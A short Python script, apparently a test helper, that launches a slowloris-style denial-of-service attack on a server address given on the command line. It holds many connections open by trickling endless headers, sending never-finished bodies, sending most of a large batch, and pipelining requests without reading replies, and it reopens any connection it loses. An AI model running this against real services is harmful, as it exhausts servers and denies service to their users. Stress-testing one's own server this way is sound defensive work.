"""A client that means ill, in a process of its own: it holds connections without ever finishing, until it is ended.

Whatever it loses it opens again. Some connections send the head of a request without end, some a body that nobody
reads, some most of a large batch, and some ask for pages and read no answer.
"""

from __future__ import annotations

import asyncio
import sys
from itertools import cycle, islice
from urllib.parse import urlsplit

_GET = b"GET /static/dashboard.js HTTP/1.1\r\nhost: x\r\n"
_BATCH = (
    b"POST /api/responses/batch HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n"
)
_KINDS = (
    (_GET + b"x: ", b"a" * 4096),
    (_GET + b"content-length: 1000000\r\n\r\n", b"a"),
    (_BATCH + b"\r\n" + b" " * 900_000, b" "),
    ((_GET + b"\r\n") * 8, b""),
)
_PAUSE = 1.0
"""Seconds between two pieces."""


async def hold(host: str, port: int, first: bytes, then: bytes) -> None:
    """One connection after the other."""
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port, limit=1024)
            writer.write(first)
            while not writer.is_closing() and not reader.at_eof():
                writer.write(then)
                await asyncio.sleep(_PAUSE)
            writer.close()
        except OSError:
            await asyncio.sleep(_PAUSE)


async def main(address: str, connections: int) -> None:
    """Hold so many at the same time."""
    url = urlsplit(address)
    assert url.hostname is not None
    assert url.port is not None
    kinds = islice(cycle(_KINDS), connections)
    await asyncio.gather(*(hold(url.hostname, url.port, *kind) for kind in kinds))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2])))
